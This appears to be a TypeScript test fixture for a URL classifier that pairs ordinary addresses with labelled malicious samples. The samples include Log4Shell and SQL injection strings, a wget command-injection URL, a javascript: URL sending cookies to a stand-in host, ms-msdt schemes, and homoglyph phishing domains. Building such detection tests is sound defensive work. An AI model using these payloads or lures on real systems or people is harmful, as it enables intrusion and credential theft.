import { type Entry, lureTexts, texts } from '../entry.ts'

const lines = (text: string) => text.trim().split(/\s*\n\s*/)

const ordinary = lines(`
  https://en.wikipedia.org/wiki/Percent-encoding#Reserved_characters
  https://fr.wikipedia.org/wiki/%C3%89lectricit%C3%A9
  https://www.google.com/search?q=how+to+fold+a+shirt&rlz=1C1GCEU_deDE821&sourceid=chrome&ie=UTF-8
  https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s
  https://youtu.be/dQw4w9WgXcQ?si=3kJ2hF7sQpXyZ1ab
  https://github.com/nodejs/node/releases/download/v24.0.0/node-v24.0.0-linux-x64.tar.xz
  https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh
  https://github.com/git-for-windows/git/releases/download/v2.47.0.windows.1/Git-2.47.0-64-bit.exe
  https://download.docker.com/linux/ubuntu/dists/jammy/pool/stable/amd64/docker-ce_27.3.1-1_amd64.deb
  https://www.python.org/ftp/python/3.13.0/python-3.13.0-amd64.exe
  https://dl.google.com/chrome/install/latest/chrome_installer.exe
  https://files.pythonhosted.org/packages/9d/be/10918a2eac4ae9f02f6cfe6414b7a155ccd8f7f9d4380d62fd5b955065c3/requests-2.31.0.tar.gz
  https://registry.npmjs.org/@types/node/-/node-24.0.0.tgz
  https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css
  https://unpkg.com/react@18.3.1/umd/react.production.min.js
  https://cdnjs.cloudflare.com/ajax/libs/jquery/3.7.1/jquery.min.js
  https://fonts.googleapis.com/css2?family=Inter:wght@400;600&display=swap
  https://d111111abcdef8.cloudfront.net/assets/app-3f2a9c1b.js
  https://my-bucket.s3.eu-central-1.amazonaws.com/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7EXAMPLE%2F20260601%2Feu-central-1%2Fs3%2Faws4_request&X-Amz-Date=20260601T100000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature=98f1c9f49d39ea79fef9b2a1f1f1f77e2b6e9ad31f60a1a8b0d4f38bfb63a5a1
  https://acme.blob.core.windows.net/files/plan.xlsx?sv=2023-11-03&st=2026-06-01T10%3A00%3A00Z&se=2026-06-02T10%3A00%3A00Z&sr=b&sp=r&sig=abcDEF123%2Bxyz%3D
  https://accounts.google.com/o/oauth2/v2/auth?client_id=123-abc.apps.googleusercontent.com&redirect_uri=https%3A%2F%2Fapp.shop.example%2Fcallback&response_type=code&scope=openid%20email&state=xyz
  https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=6731de76-14a6-49ae-97bc-6eba6914391e&response_type=code&redirect_uri=https%3A%2F%2Fportal.shop.example%2Fsignin&scope=openid&login_hint=jane%40shop.example
  https://github.com/login/oauth/authorize?client_id=Iv1.8a61f9b3a7aba766&redirect_uri=https://ci.shop.example/oauth/callback&state=9f2c
  https://appleid.apple.com/auth/authorize?client_id=com.shop.web&redirect_uri=https%3A%2F%2Fshop.example%2Fauth&response_type=code
  https://acme.okta.com/app/acme_portal_1/exk1abcd/sso/saml?SAMLRequest=fZJNT8MwDIbv%2FIoq97ZpPzY1WjuNTYhJg01r4cAtTb0tUpuUOB3w70k7YAdgV%2Bv148evPZ2%2F103wBgalVglhESUBKKEr
  https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.sbb.ch%2Fen&data=05%7C02%7Cjane%40corp.example%7C1a2b3c&sdata=abc%3D&reserved=0
  https://urldefense.proofpoint.com/v2/url?u=https-3A__www.admin.ch_gov_de_start.html&d=DwMFAg&c=euGZstcaTDllvimEN8b7jXrwqOf-v5A_CdpgnVfiiMM&r=abc&m=def&s=ghi&e=
  https://nl.click.zalando.de/?qs=6b2d7c4f1a9e8d3b0c5f&utm_source=newsletter&utm_medium=email&utm_campaign=summer
  https://click.e.ikea.com/u/?qs=AbCdEf0123456789AbCdEf0123456789
  https://u1234567.ct.sendgrid.net/ls/click?upn=u001.abcDEF-2Bghi-3D-3D_jklMNO
  https://shop.us12.list-manage.com/track/click?u=1a2b3c4d5e6f7a8b9c0d&id=7f8e9d0c1b&e=a1b2c3d4e5
  https://www.amazon.de/dp/B08N5WRWNW/ref=sr_1_3?crid=2M8&keywords=kettle&qid=1700000000&sprefix=kett%2Caps%2C90&sr=8-3
  https://www.ebay.com/itm/255123456789?hash=item3b6a&_trkparms=amclksrc%3DITM%26aid%3D1110006
  https://www.booking.com/hotel/ch/bellevue.en-gb.html?aid=304142&label=gen173nr&checkin=2026-07-01&checkout=2026-07-05
  https://maps.google.com/maps?q=47.3769,8.5417&z=15
  https://www.google.com/maps/place/Z%C3%BCrich+HB/@47.378177,8.540192,17z/data=!3m1!4b1
  https://outlook.office.com/mail/inbox/id/AAQkADAwATM0MDAAMS0yYjQ0LTU1YWYtMDACLTAwCgAQ
  https://acme.sharepoint.com/:w:/s/team/EdK1a2b3c4d5e6f7g8h9i0jBabcdef?e=4a5b6c
  https://acme-my.sharepoint.com/personal/jane_acme_example/_layouts/15/onedrive.aspx
  https://drive.google.com/file/d/1A2b3C4d5E6f7G8h9I0jKlMnOpQrStUv/view?usp=sharing
  https://docs.google.com/document/d/1A2b3C4d5E6f7G8h9I0jKlMnOpQrStUv/edit#heading=h.abc123
  https://www.dropbox.com/scl/fi/abc123/minutes.pdf?rlkey=xyz&dl=0
  https://we.tl/t-AbCdEf1234
  https://us02web.zoom.us/j/81234567890?pwd=QWJjRGVmR2hpSktMTU5PUA
  https://teams.microsoft.com/l/meetup-join/19%3ameeting_abc%40thread.v2/0?context=%7b%22Tid%22%3a%2272f9%22%7d
  https://meet.google.com/abc-defg-hij
  https://calendly.com/jane-acme/30min?month=2026-06
  https://www.paypal.com/checkoutnow?token=5O190127TN364715T
  https://www.paypal.com/invoice/p/#INV2-ABCD-EFGH-JKLM-NPQR
  https://checkout.stripe.com/c/pay/cs_test_a1B2c3D4e5F6g7H8i9J0#fidkdWxOYHwnPyd1blpxYHZxWjA0
  https://buy.stripe.com/test_14k8xJ3Qx
  https://www.postfinance.ch/ap/ba/ob/html/e-finance/home
  https://www.labanquepostale.fr/particulier/connexion-espace-client.html
  https://espace-client.orange.fr/accueil
  https://www.impots.gouv.fr/accueil
  https://www.dhl.de/de/privatkunden/pakete-empfangen/verfolgen.html?piececode=00340434161094042557
  https://www.ups.com/track?loc=en_US&tracknum=1Z999AA10123456784
  https://tools.usps.com/go/TrackConfirmAction?tLabels=9400100000000000000000
  https://web.archive.org/web/20200101000000/https://www.example.com/
  https://translate.google.com/?sl=de&tl=en&text=Guten%20Tag&op=translate
  https://validator.w3.org/nu/?doc=https%3A%2F%2Fwww.w3.org%2F
  https://www.facebook.com/sharer/sharer.php?u=https%3A%2F%2Fblog.example.org%2Fpost
  https://twitter.com/intent/tweet?text=Hello&url=https%3A%2F%2Fblog.example.org
  https://api.whatsapp.com/send?phone=41441234567&text=Hello
  https://t.me/durov
  https://bit.ly/3xYzAbC
  http://192.168.1.1/
  http://192.168.178.1/#/settings
  http://localhost:3000/admin?debug=true
  http://127.0.0.1:8080/health
  http://10.0.0.12:9200/_cat/indices?v
  https://[2001:db8::1]:8443/status
  https://intranet.corp.local/wiki/display/HR/Onboarding
  https://jenkins.corp.local:8443/job/build/1234/console
  ftp://ftp.gnu.org/gnu/bash/bash-5.2.tar.gz
  sftp://files.corp.example/reports/june.csv
  mailto:support@shop.example?subject=Order%2012345
  https://user.github.io/project/docs/index.html
  https://web.example.org:8443/app
  https://shop.example/de/produkte/stühle?farbe=grün
  https://www.xn--mller-kva.de/drogerie/
  https://example.org/path/to/file.php?id=7&cmd=list&sort=asc
  https://forum.example.org/viewtopic.php?f=3&t=12345&sid=9d3f0b7c2a1e4f5d6c7b8a9e0f1d2c3b
  https://news.ycombinator.com/item?id=39000000
  https://old.reddit.com/r/programming/comments/abc123/title_of_post/
  https://medium.com/@jane.doe/how-we-moved-to-typescript-1a2b3c4d5e6f
  https://jane.substack.com/p/on-writing?utm_source=post-email-title&publication_id=1&post_id=2&r=abc&triedRedirect=true
  https://www.nytimes.com/2026/06/01/business/economy/inflation-report.html?smid=nytcore-ios-share
  https://link.springer.com/article/10.1007/s00145-020-09347-x
  https://doi.org/10.1145/3133956.3134027
  https://arxiv.org/pdf/2301.00001v2.pdf
  https://cve.mitre.org/cgi-bin/cvename.cgi?name=CVE-2021-44228
  https://play.google.com/store/apps/details?id=com.whatsapp&hl=en
  https://apps.apple.com/us/app/whatsapp-messenger/id310633997
  https://itunes.apple.com/lookup?bundleId=com.apple.Pages
  https://www.netflix.com/browse?jbv=80057281
  https://open.spotify.com/track/4uLU6hMCjMI75M1A2tKUQC?si=abc
  https://www.linkedin.com/in/jane-doe-12345678/?originalSubdomain=ch
  https://lnkd.in/eAbCdEfG
  https://app.hubspot.com/login?hubs_signup-url=www.hubspot.com&hubs_signup-cta=nav
  https://unsubscribe.shop.example/u?e=jane@customer.example&id=99
  https://shop.example/confirm?email=jane%40customer.example&token=8f14e45fceea167a5a36dedd4bea2543
  https://ipfs.tech/
  https://docs.ipfs.tech/concepts/what-is-ipfs/
  https://www.visa.com/en_us/support/consumer/lost-stolen-card.html
  https://paypal.me/janedoe
  https://blog.example.org/2026/06/paypal-raises-fees/
  https://support.example.org/kb/how-to-set-up-office-365`)

const any = /^(?:url|domain|lists)\./

export const urlEntries = (): Entry[] => [
  ...texts('url', 'ordinary addresses', ordinary),
  ...texts('url', 'words of attacks in ordinary addresses', [
    'https://www.google.com/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D+log4shell',
    'https://stackoverflow.com/search?q=union+select+null',
    'https://docs.example/sql/union-select.html',
    'https://shop.example/list?id=5&sort=name;price',
    'https://shop.example/s?k=cat+litter&ref=nb;id',
    'https://ci.example/job/run?cmd=build&target=../out',
    'https://api.example/v1/items?filter=name%20eq%20%27x%27%20and%20price%20gt%205',
    'https://example.org/a/../b/../c',
  ]),
  ...lureTexts('url', 'attacks on a server', any, [
    `https://victim.example/?q=${'$'}{jndi:ldap://203.0.113.5/a}`,
    'https://victim.example/%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D',
    'https://victim.example/item.php?id=-1%20UNION%20SELECT%20null,version()--',
    'https://victim.example/?id=1%27%20or%20%271%27=%271',
    'https://victim.example/download?f=..%2f..%2f..%2f..%2fetc%2fpasswd',
    'https://victim.example/cgi-bin/ping?host=127.0.0.1;wget%20http://203.0.113.5/x.sh',
    'http://victim.example/up.jsp?cmd=whoami',
    'http://[2001:db8::5]/gate.php?id=1&cmd=whoami;id',
  ]),
  ...lureTexts('url', 'a page or a script as an address', any, [
    `data:text/html;base64,${Buffer.from('<form action="https://collect.example.net/p"><input type=password></form>').toString('base64')}`,
    'javascript:fetch("https://collect.example.net/"+document.cookie)',
  ]),
  ...lureTexts('url', 'backslash before the at sign', any, [
    'https://www.paypal.com\\@collect.example.net/login',
    'https://accounts.google.com\\\\@1.2.3.4/',
    'http://www.orange.fr\\@espace.example.net/facture',
  ]),
  ...lureTexts('url', 'a name before the at sign', any, [
    'https://www.postfinance.ch@collect.example.net/ebanking',
    'https://login.microsoftonline.com:443@5.6.7.8/auth',
    'https://www.netflix.com%2Fbilling@renew.example.net/',
  ]),
  ...lureTexts('url', 'letters that look alike after normalization', any, [
    'https://ｐａｙｐａｌ.com.verify.example.net/',
    'https://paypaⅼ.test/login',
    'https://аррӏе.com/id',
    'https://ɡoogle.example.net/accounts',
    'https://micrоsoft.com/login',
    'https://www.xn--pypal-4ve.com/signin',
  ]),
  ...lureTexts('url', 'a sign that turns letters around', any, [
    'https://files.example.net/invoice%E2%80%AEfdp.exe',
    'https://files.example.net/report_%e2%80%aexcod.scr?x=1',
    'https://files.example.net/a/photo%E2%80%AEgpj.js',
  ]),
  ...lureTexts(
    'url',
    'shares of other machines',
    any,
    [
      'file://1.2.3.4/share/invoice.pdf',
      'file://files.example.net/docs/report.url',
      'file:////5.6.7.8/c$/a.lnk',
      '\\\\1.2.3.4\\webdav\\update.exe',
      '\\\\files.example.net@SSL\\DavWWWRoot\\a.js',
    ],
    'url',
  ),
  ...lureTexts('url', 'a brand in the path', any, [
    'https://shop-hosting.example.net/wp-content/www.paypal.com/signin/index.php',
    'https://5.6.7.8/~web/secure.chase.com/login.html',
    'https://garden-club.example.net/images/login.microsoftonline.com/common/oauth2/',
    'https://yoga.example.net/.well-known/appleid.apple.com/verify.php',
    'https://club.example.net/wp-includes/labanquepostale.fr/connexion/',
  ]),
  ...lureTexts('url', 'gateways of IPFS', any, [
    'https://ipfs.io/ipfs/QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG/index.html#jane@corp.example',
    'https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/login.html#bob@corp.example',
    'https://cloudflare-ipfs.com/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/o365.html?e=a@corp.example',
  ]),
  ...lureTexts('url', 'mail address in the fragment', any, [
    'https://voice-message.example.net/listen/#jane.doe@corp.example',
    'https://docs-share.example.net/view.html#amFuZS5kb2VAY29ycC5leGFtcGxl',
    'https://pages.example.net/s/#/auth/bob%40corp.example',
  ]),
  ...lureTexts('url', 'an address in disguise', any, [
    'http://[::ffff:1.2.3.4]/login',
    'http://[::ffff:102:304]/a',
    'http://16909060/login',
    'http://0x01020304/x',
    'http://01.02.03.04/paypal',
    'http://1.2.772/',
  ]),
  ...lureTexts('url', 'translation proxies', any, [
    'https://login-paypal--check-test.translate.goog/signin?_x_tr_sl=auto&_x_tr_tl=en',
    'https://translate.google.com/translate?sl=auto&tl=en&u=https://paypa1-login.example.net/',
    'https://www-micros0ft--login-test.translate.goog/owa?_x_tr_sl=en&_x_tr_tl=de&_x_tr_hl=de',
  ]),
  ...lureTexts('url', 'look-alike hosts', any, [
    'https://www.paypa1.com/signin',
    'https://rnicrosoft.com/login',
    'https://www.mydhl-online.com/parcel?id=77',
    'https://login.netfIix-billing.com/',
    'https://secure.amaozn.com/ap/signin',
    'https://appleid.apple.com.verify-device.example.net/',
    'https://www.labanquepostale-securite.com/',
    'https://orange-facture.net/payer',
  ]),
  ...lureTexts(
    'url',
    'schemes that run something',
    any,
    [
      'search-ms:query=invoice&crumb=location:\\\\1.2.3.4\\share&displayname=Documents',
      'ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=x"',
      'ms-officecmd:%7B%22id%22:3%7D',
      'javascript:fetch("https://collect.example.net/"+document.cookie)',
      'data:text/html;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QudGVzdC8iPjxpbnB1dCB0eXBlPXBhc3N3b3JkPjwvZm9ybT4=',
      'vbscript:msgbox(1)',
    ],
    'url',
  ),
  ...lureTexts('url', 'programs from a bare address', any, [
    'http://1.2.3.4/bins/mirai.arm7',
    'http://5.6.7.8:8000/update.exe',
    'http://1.2.3.4/a.hta',
    'https://files.example.net/invoice.pdf.exe',
    'https://cdn.example.net/Document_2026.docx.js',
  ]),
]
